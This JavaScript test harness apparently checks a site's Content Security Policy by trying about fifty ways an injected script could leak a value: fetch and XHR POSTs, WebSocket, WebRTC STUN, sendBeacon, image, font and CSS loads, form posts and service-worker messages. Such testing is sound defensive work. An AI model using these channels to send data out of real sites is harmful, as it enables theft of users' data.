// Every way in which a script could tell somebody a word. Put behind a script of the site, it does what hostile code
// there could do. Where a way ends at a server, the test looks there and does not believe this file; of ways that end
// inside the browser it says itself whether they were possible.

const PATIENCE = 600; // milliseconds, after which a try that says nothing is left alone

globalThis.tryWays = async ({ names, bases, word }) => {
  // In a turn of its own: what a debugger calls may make functions of text, whatever the policy says.
  await new Promise((next) => setTimeout(next));
  const tries = bases.flatMap(([place, base]) => names.map((name) => [`${place} ${name}`, name, base]));
  const outcomes = tries.map(async ([title, name, base]) => {
    const to = (end = "js") => `${base.replace("{end}", end)}way=${encodeURIComponent(name)}&word=${word}`;
    return [title, await outcome(() => WAYS[name](to, word, base))];
  });
  return Object.fromEntries(await Promise.all(outcomes));
};

const events = (begin) => new Promise((done, fail) => begin(done, () => fail(new Error("refused"))));

async function outcome(way) {
  try {
    await Promise.race([way(), new Promise((done) => setTimeout(done, PATIENCE))]);
    return "tried";
  } catch (reason) {
    return reason instanceof ReferenceError ? "absent" : "refused";
  }
}

// What belongs to the navigator; a part that is missing is no error by itself.
const own = (name) => {
  if (!navigator[name]) throw new ReferenceError(name);
  return navigator[name];
};
const add = (name, values, place = document.body) => {
  const made = Object.assign(document.createElement(name), values);
  place.append(made);
  return made;
};
const loaded = (name, values, place) =>
  events((done, fail) => add(name, { ...values, onload: done, onerror: fail }, place));
const link = (rel, end, values = {}) => (to) => loaded("link", { rel, href: to(end), ...values }, document.head);
// Rules made by script need no permission of style-src; what they fetch does.
const rule = (text) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(text);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
};

const WAYS = {
  // Of any script.
  fetch: (to, word) => fetch(to(), { method: "POST", body: word, headers: { "X-Word": word } }),
  "fetch no-cors": (to, word) => fetch(to(), { method: "POST", body: word, mode: "no-cors", keepalive: true }),
  XMLHttpRequest: (to, word) =>
    events((done, fail) => {
      const request = Object.assign(new XMLHttpRequest(), { onload: done, onerror: fail });
      request.open("POST", to());
      request.send(word);
    }),
  WebSocket: (to) =>
    events((done, fail) => Object.assign(new WebSocket(to().replace("http", "ws")), { onopen: done, onerror: fail })),
  EventSource: (to) => events((done, fail) => Object.assign(new EventSource(to()), { onopen: done, onerror: fail })),
  WebTransport: (to) => new WebTransport(to().replace("http:", "https:")).ready,
  "import()": (to) => import(to()),
  WebSocketStream: (to) => new WebSocketStream(to().replace("http", "ws")).opened,
  FontFace: (to) => new FontFace("theirs", `url("${to()}")`).load(),
  "importScripts()": (to) => importScripts(to()),
  Worker: (to) => events((done, fail) => Object.assign(new Worker(to()), { onmessage: done, onerror: fail })),
  WebRTC: async (to) => {
    const { host } = new URL(to());
    const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    line.createDataChannel("");
    await line.setLocalDescription(await line.createOffer());
    await events((done) => (line.onicegatheringstatechange = () => line.iceGatheringState === "complete" && done()));
  },
  BroadcastChannel: (_, word) => new BroadcastChannel("attack").postMessage(word),
  "Cache Storage": async (_, word) => void (await caches.open(word)),
  IndexedDB: (_, word) => events((done, fail) => Object.assign(indexedDB.open(word), { onsuccess: done, onerror: fail })),
  "File System": async () => void (await own("storage").getDirectory()),
  "Storage Buckets": async (_, word) => void (await own("storageBuckets").open(word)),
  "old File System": () => events((done, fail) => webkitRequestFileSystem(0, 1024, done, fail)),
  "Web Locks": (_, word) => own("locks").request(word, () => {}),
  "new Function": () => new Function("")(),
  // The site's own program that keeps the guide: what it is told, it could pass on.
  "service worker": async (to, word) => {
    const worker = (await own("serviceWorker").getRegistration()).active;
    for (const told of [{ keep: to() }, { language: to() }, { giveWay: to() }, word, to()]) worker.postMessage(told);
  },
  // Of a page's script.
  sendBeacon: (to, word) => navigator.sendBeacon(to(), word),
  image: (to) => loaded("img", { src: to("gif") }),
  script: (to) => loaded("script", { src: to() }),
  "module script": (to) => loaded("script", { type: "module", src: to() }),
  stylesheet: link("stylesheet", "css"),
  "@import": (to) => loaded("style", { textContent: `@import url("${to("css")}");` }, document.head),
  "css url": (to) => {
    const id = `css-${document.adoptedStyleSheets.length}`;
    rule(`#${id} { background: url("${to("gif")}") }`);
    add("p", { id, textContent: "x" });
    return new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)));
  },
  prefetch: link("prefetch", "js"),
  preload: link("preload", "js", { as: "script" }),
  "preload font": link("preload", "woff", { as: "font", crossOrigin: "" }),
  modulepreload: link("modulepreload", "js"),
  icon: link("icon", "gif"),
  preconnect: (to) => void add("link", { rel: "preconnect", href: to() }, document.head),
  "dns-prefetch": (to) => void add("link", { rel: "dns-prefetch", href: to() }, document.head),
  video: (to) => events((done, fail) => Object.assign(add("video", { src: to() }), { onerror: fail }).load()),
  object: (to) => loaded("object", { data: to("gif"), type: "image/gif" }),
  iframe: (to) => loaded("iframe", { src: to("htm") }),
  "frame's location": (to) => (add("iframe", {}).contentWindow.location = to("htm")),
  form: (to, word, base) => {
    // Into a window of its own: this page stays, and its rule for frames says nothing of it.
    const form = add("form", { action: to("htm"), method: "post", target: `form-${base}` });
    add("input", { name: "word", value: word }, form);
    form.submit();
  },
  base: (to) => {
    const base = add("base", { href: to() }, document.head);
    const told = document.baseURI;
    base.remove();
    if (told !== to()) throw new Error("refused");
  },
  "inline script": () => {
    add("script", { textContent: "globalThis.ran = true" });
    if (!globalThis.ran) throw new Error("refused");
  },
};
